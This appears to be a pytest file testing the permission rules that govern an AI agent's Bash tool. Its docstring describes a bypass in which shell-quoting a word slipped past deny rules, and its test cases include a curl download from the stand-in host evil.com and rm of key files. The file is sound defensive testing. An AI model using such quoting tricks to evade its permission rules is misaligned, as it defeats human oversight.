"""Attack round 22: a Bash rule's pattern is matched over `shlex.join` of the command's words, which quotes a word
holding `!`, `&`, `$`, a space...; a deny rule's in-word `*` or `prefix*` never matched the quoted form. `Bash(echo
tok*)` denied `echo tokX` but not `echo 'tok!'`, and `Bash(curl https://evil.com/* *)` only asked for `curl
'https://evil.com/x&y=1'` (which `Bash(curl *)` or bypass mode then ran). Deny and ask rules now also read the
words unquoted; allow rules do not (matching more is what a deny rule should do, never what an allow rule may)."""

from __future__ import annotations

import pytest

from tests.attacks.workspace import Workspace, engine
from tests.permission_calls import decide


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(echo tok*)", "echo 'tok!'"),
        ("Bash(echo tok*)", "echo tok'&'x"),
        ("Bash(curl https://evil.com/* *)", "curl 'https://evil.com/x&y=1' -o out"),
        ("Bash(curl https://evil.com/*)", "curl 'https://evil.com/a b'"),
        ("Bash(rm *.key)", "rm 'my key!.key'"),
    ],
)
def test_a_deny_rule_matches_a_word_the_shell_quotes(found: Workspace, rule: str, command: str) -> None:
    engine_ = engine(found, "bypassPermissions", allow=("Bash(curl *)", "Bash(echo *)", "Bash(rm *)"), deny=(rule,))
    assert decide(engine_, "Bash", {"command": command}).behavior == "deny"


def test_an_ask_rule_too(found: Workspace) -> None:
    engine_ = engine(found, "default", allow=("Bash(echo *)",), ask=("Bash(echo tok*)",))
    assert decide(engine_, "Bash", {"command": "echo 'tok!'"}).behavior == "ask"


def test_an_allow_rule_keeps_the_quoted_reading(found: Workspace) -> None:
    """`Bash(touch a b)` allows the two words `a` `b`, not the one word `a b` (nor its unquoted reading)."""
    engine_ = engine(found, "default", allow=("Bash(touch a b)", "Bash(touch x*)"))
    assert decide(engine_, "Bash", {"command": "touch a b"}).behavior == "allow"
    assert decide(engine_, "Bash", {"command": "touch 'a b'"}).behavior != "allow"
    assert decide(engine_, "Bash", {"command": "touch 'x!'"}).behavior != "allow"
